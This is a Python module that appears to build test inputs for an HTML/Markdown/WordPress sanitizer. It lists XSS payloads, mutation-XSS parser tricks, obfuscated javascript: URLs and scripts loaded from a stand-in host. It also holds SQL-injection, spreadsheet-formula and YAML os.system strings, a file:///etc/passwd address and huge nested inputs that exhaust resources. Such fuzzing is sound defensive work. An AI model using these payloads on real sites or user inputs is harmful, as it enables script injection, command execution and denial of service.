"""What strangers write into texts: a script in every place that HTML, Markdown and WordPress have for one, and damage.

A script that runs says alert(1); what is fetched without one is asked of HOST.
"""

SCRIPT = "alert(1)"
HOST = "hostile.invalid"

# {} is the script, @ the host.
ELEMENTS = r"""
<script>{}</script>
<script src=//@/a.js></script>
<scr<script>ipt>{}</scr</script>ipt>
<<script>{}//<</script>
<ScRiPt/x>{}</sCrIpT >
<img src=x onerror={}>
<img/src=x/onerror={}>
<img src=x onerror = "{}">
<img src=x onerror&#61;{} onload	=	{}>
<img ""><script>{}</script>">
<img src=//@/a.png srcset="//@/b.png 2x">
<img src='x' srcset='javascript:{} 1x'>
<picture><source srcset=//@/c.png><img src=x onerror={}></picture>
<svg onload={}>
<svg/onload={}//
<svg><script>{}</script></svg>
<svg><script href=//@/a.js />
<svg><a xlink:href=javascript:{}><text y=20>x</text></a></svg>
<svg><animate onbegin={} attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:{}>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>{}</script></svg>#x">
<svg><image href=//@/d.png>
<math><a xlink:href=javascript:{}>x
<math href=javascript:{}>x</math>
<a href="javascript:{}">x</a>
<a href='x' onclick={}>x</a>
<a href=/ target=_blank ping=//@/ping style="position:fixed;inset:0;z-index:9999;background:#fff">x</a>
<iframe src=javascript:{}></iframe>
<iframe srcdoc='<script>parent.{}</script>'>
<iframe src=//@/></iframe>
<object data=javascript:{}>
<object data=//@/x.swf></object>
<embed src=javascript:{}>
<applet code=x archive=//@/x.jar>
<style>*{background:url(//@/e.png)}</style>
<style>@import "//@/f.css"; main,footer{display:none}</style>
<p style="x:expression({});position:fixed;inset:0;background:url(//@/g.png)">x</p>
<p style='behavior:url(//@/h.htc);-moz-binding:url(//@/i.xml)'>x</p>
<link rel=stylesheet href=//@/j.css>
<link rel=preload as=script href=//@/k.js><link rel=prefetch href=//@/l><link rel=dns-prefetch href=//@>
<meta http-equiv=refresh content='0;url=javascript:{}'>
<meta http-equiv=refresh content='0;url=//@/'>
<meta http-equiv=Set-Cookie content='a=b'><meta name=referrer content=unsafe-url>
<base href=javascript:{}//>
<base href=//@/ target=_top>
<form action=javascript:{}><button>x</button></form>
<form id=f action=//@/><button form=f formaction=javascript:{}>x</button><input type=image src=//@/m.png formaction=//@/></form>
<input autofocus onfocus={}>
<textarea autofocus onfocus={}></textarea><select autofocus onfocus={}></select>
<isindex action=javascript:{} type=image>
<body onload={} background=//@/n.png>
<frameset onload={}><frame src=javascript:{}></frameset>
<details open ontoggle={}><summary>x</summary>x</details>
<dialog open onclose={}>x</dialog>
<div popover id=p onbeforetoggle={}>x</div><button popovertarget=p autofocus onfocus={}>x</button>
<video poster=//@/o.png><source onerror={} src=//@/p.mp4></video>
<audio src=//@/q.mp3 autoplay onerror={}></audio><track src=//@/r.vtt>
<marquee onstart={}>x</marquee>
<xss style="animation-name:x" onanimationstart={} tabindex=1 autofocus onfocus={}>x</xss>
<p onpointerover={} onmouseover={} onwheel={} onscrollend={} onbeforematch={} hidden=until-found>x</p>
<table background=javascript:{}><td background=//@/s.png onclick={}>x</table>
<figure><img src=javascript:{}><figcaption onclick={}>x</figcaption></figure>
<template><script>{}</script></template>
<template shadowrootmode=open><script>{}</script><style>:host{position:fixed;inset:0}</style></template>
<portal src=//@/></portal><fencedframe src=//@/></fencedframe>
<?xml-stylesheet href="javascript:{}"?><x>x</x>
<!DOCTYPE html [<!ENTITY x "<script>{}</script>">]>&x;
<aside class=callout data-title='"><script>{}</script>' onclick={}><p>x</p></aside>
<aside class=call data-call='assess"><script>{}</script>' data-target='x" onload="{}'><p>x</p></aside>
<aside class=call data-call=assess data-target="../../admin"><p>x</p></aside>
<section class=for data-title='<img src=x onerror={}>' onclick={}><p>x</p></section>
<sup class=note><script>{}</script><a href=javascript:{}>x</a></sup>
<pre class="language-x onclick={}"><code class='language-" onclick="{}'>x</code></pre>
<table data-caption='"><img src=x onerror={}>'><tr><th scope='col" onclick="{}'>x</th><td colspan='9" onclick="{}'>x</td></table>
<ol start='1" onclick="{}'><li value='" onclick="{}'>x</ol>
<img src="/images/x/y.png" alt='"><script>{}</script>' role='presentation" onload="{}'>
<form name=cookie id=body><input name=innerHTML id=getElementById><img name=querySelector></form><a id=main name=forms>x</a>
<main id=main>x</main></main><footer>x</footer><header>x</header><nav aria-label=Site>x</nav>
"""  # fmt: skip

# What a parser reads otherwise the second time.
MUTATIONS = r"""
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={}&gt;">
<math><mtext><table><mglyph><style><math><img src=x onerror={}>
<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>
<math><annotation-xml encoding="text/html"><style><img src=x onerror={}></style></annotation-xml></math>
<math></p><style><!--</style><img src/onerror={}>-->
<svg></p><style><a id="</style><img src=1 onerror={}>">
<svg><style><img src=x onerror={}></style></svg>
<svg><foreignObject><style><!--</style><p title="--><img src=x onerror={}>"></foreignObject></svg>
<svg><desc><title><a id="</title><img src=x onerror={}>"></a></desc></svg>
<svg><title><style></title><img src=x onerror={}></style></svg>
<svg><![CDATA[><img src=x onerror={}>]]></svg>
<svg><p><style><!--</style><xmp>--><img src onerror={}></xmp>
<table><caption><svg><title><table><tr><td></title><img src onerror={}>
<noscript><p title='</noscript><script>{}</script>'>
<noscript><style></noscript><img src=x onerror={}></style>
<textarea></textarea><script>{}</script>
<textarea><p title="</textarea><img src=x onerror={}>">
<title></title><img src=x onerror={}>
<title><p title="</title><img src=x onerror={}>">
<style><p title="</style><img src=x onerror={}>">
<xmp><p title="</xmp><img src=x onerror={}>"></xmp>
<noembed><p title="</noembed><img src=x onerror={}>">
<noframes><p title="</noframes><img src=x onerror={}>">
<iframe><p title="</iframe><img src=x onerror={}>">
<template><style></template><img src=x onerror={}></style></template>
<select><template><style><!--</style><a rel="--></template><img src=x onerror={}>">
<plaintext><img src=x onerror={}>
<listing>&lt;img src=x onerror={}&gt;</listing>
<!--><img src=x onerror={}>-->
<!--!><img src=x onerror={}>--!>
<!-- --!><img src=x onerror={}> -->
<![CDATA[<script>{}</script>]]>
<p>&lt;img src=x onerror={}&gt; &amp;lt;script&amp;gt;{}&amp;lt;/script&amp;gt;</p>
<p title="`><img src=x onerror={}>`">``onmouseover={}</p>
<a><table><a href=javascript:{}></table></a><b><table><td><i></table></b><p></b>x
<table><tr><form><td><script>{}</script></form></table><li></table></ul></blockquote>x
"""  # fmt: skip

MARKDOWN = r"""
[x](javascript:{})
[x](<java	script:{}> "x")
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](//@/y) [x](\\@\y) [x](/\@/y) [x](https:@) [x](javascript&colon;{})
![x](javascript:{}) ![x](//@/t.png) ![x](data:image/svg+xml,<svg/onload={}>)
![" onerror="{}](/a.png "decorative\" onload=\"{}")
[x]: javascript:{}¶¶[x] [x][] [y][x] ![x]
[x]: //@/y "'><script>{}</script>"¶¶[x]
<javascript:{}> <data:text/html,{}> <//@/x>
[[[x](javascript:{})](/y)](javascript:{}) [![x](javascript:{})](javascript:{})
[x](/y "\"><script>{}</script>") [x](/y'onclick={}) [x](/y"onclick="{})
```html¶<script>{}</script>¶```
```" onclick="{}¶x¶```
::: call assess "><script>{}</script>¶x¶:::
::: callout "><img src=x onerror={}>¶x¶:::
::: figure¶![x](javascript:{})¶<img src=x onerror={}>¶:::
::::: for <svg onload={}>¶::: callout x¶::: against </section></main>¶x¶:::::
| <script>{}</script> |¶|---|¶| <img src=x onerror={}> |
<table><tr><td><img src=x onerror={}></td></tr></table>
x[^1] ^[<script>{}</script>]¶¶[^1]: <script>{}</script> [x](javascript:{})
---¶key: x¶!!python/object/apply:os.system ["x"]¶---¶<script>{}</script>
"""  # fmt: skip

WORDPRESS = r"""
[caption caption="<script>{}</script>"]<img src=x onerror={}>[/caption]
[caption]<img src='x' onerror={}> <script>{}</script>[/caption]
[embed]javascript:{}[/embed]
[video src="javascript:{}"] [video src='http://x/"onmouseover="{}']
[audio src="http://x/'><script>{}</script>"]
[gallery ids="<script>{}</script>"]
<!-- wp:html --><script>{}</script><!-- /wp:html -->
<!-- wp:embed {"url":"javascript:{}"} --><figure class="wp-block-embed">https://x/"onmouseover={} <script>{}</script></figure><!-- /wp:embed -->
<!-- wp:paragraph {"x":"--><script>{}</script>"} --><p>x</p><!-- /wp:paragraph -->
http://x/"><script>{}</script>
"""  # fmt: skip

# javascript: in other writings, each the address of a link.
ADDRESSES = [
    "javascript:{}", "JaVaScRiPt:{}", " javascript:{}", "\x01javascript:{}", "java\nscript:{}", "java\tscript:{}", "java\x00script:{}", "java\u200bscript:{}",
    "\u202ejavascript:{}", "&#106;avascript:{}", "&#x6A&#x61vascript:{}", "&#0000106avascript:{}", "javascript&colon;{}", "javascript&#58;{}", "java&Tab;script&NewLine;:{}",
    "javascript:javascript:{}", "javascript:/*'/*`/*--></title></style></script><svg/onload={}>", "javascript://%0a{}", "jav%61script:{}", "ｊavascript:{}", "feed:javascript:{}",
    "view-source:javascript:{}", "vbscript:{}", "livescript:{}", "data:text/html,<script>{}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "DATA:image/svg+xml,<svg onload={}>",
    "blob:https://@/x", "filesystem:https://@/x", "file:///etc/passwd", "//@/x", "\\\\@\\x", "/\\@/x", "/\t/@/x", "https:@/x", "http://user:word@@/x", "https://", "x:y",
]  # fmt: skip

DAMAGE = [
    "\u202eabc\u202c \u2066x\u2069 \u061c\u200e\u200f", "\x00\x01\x1b[31m\x7f\x85", "\ufeff\u200b\u200c\u200d\u2060\u00ad", "a\u0300" * 300, "🧨\ufe0f\u200d" * 50, "\ufdd0\uffff\ufffe \U0001fffe",
    "\ud800", "a\udfffb", "\u2028\u2029", "\r\n\r\r\n", "ﷺ" * 200, "w" * 500 + " " + "W\u00a0" * 500, "&" * 300, "&#x110000; &#0; &#xD800; &#128; &notanentity;",
    "</div></section></article></main></body></html>", "</main></main><footer>x", "</textarea></form></script></style></title>", "</p></p></br></hr></table></td>",
    "<", "<p", "<a href=", "<a href='", "<!--", "<![CDATA[", "]]>", "-->", "<?php echo 1 ?>", "{{ x }} {% now %} ${x}", "'; DROP TABLE x; --", "=cmd|' /C calc'!A0",
    "~~~", "[caption]", "[caption]" * 200, "[/caption]", "[[x]]", "[x", "<!-- wp:x", '<!-- wp:x {"a":} /-->',
    "## Main\n\n## Note 1\n\n## Ref 1\n\n## Call 1\n\nx^[y]", "<h2>Callout 1</h2><aside class=callout data-title=x>x</aside><h2>For 1</h2><section class=for><p>x</section>",
]  # fmt: skip

# So long or so deep that an answer may keep its readers waiting.
HUGE = [
    "x" * 190_000, "a\u0300" * 30_000, "&" * 30_000, "<div>" * 10_000, "<b><i>" * 5000, "<a href=/x>" * 5000, "<table><tr><td>" * 3000, "<ul><li>" * 5000, "<blockquote>" * 10_000,
    "<p>" * 10_000, "<font>" * 10_000 + "x", "<svg><math>" * 3000, "<figure><img src=/x>" * 2000, "<sup class=note>" * 5000 + "x", "<x " + "a=b " * 10_000 + ">",
    f"<table>{'<tr>' + '<td>x' * 100}" + ("<tr>" + "<td>x" * 100) * 99, "\n".join(["|x" * 100, "|-" * 100, *["|x" * 100] * 100]),
    "> " * 10_000 + "x", "- " * 10_000 + "x", "1. " * 10_000 + "x", "*a **b " * 10_000, "*" * 10_000, "[" * 10_000, "![" * 10_000, "[a](" * 10_000, "^[" * 10_000, "`" * 10_000, "<" * 10_000,
    "::: callout x\n" * 5000, "[x]: /y\n" * 5000 + "[x]" * 5000, "\n".join(f"[^{n}]: [^{n + 1}]" for n in range(5000)), "    " * 5000 + "x", "---\n" * 5000,
    "\n".join(" " * n + "- x" for n in range(300)), "<h2>x</h2>" * 3000,
]  # fmt: skip


def _filled(line: str) -> str:
    return line.replace("{}", SCRIPT).replace("@@", f"@{HOST}").replace("@", HOST).replace("¶", "\n")


def _lines(written: str) -> list[str]:
    return [_filled(line) for line in written.splitlines() if line]


SCRIPTS = [
    *_lines(ELEMENTS + MUTATIONS + MARKDOWN + WORDPRESS),
    *(f'<a href="{_filled(address)}">x</a>' for address in ADDRESSES),
]
# A third of them alone, a third in a piece of text, a third inside of what is left open.
FRAMES = ("{}", "Words {} words.\n\n## More", "<div><ul><li><p>x{}")
BODIES = [*(FRAMES[n % 3].replace("{}", script) for n, script in enumerate(SCRIPTS)), *DAMAGE]
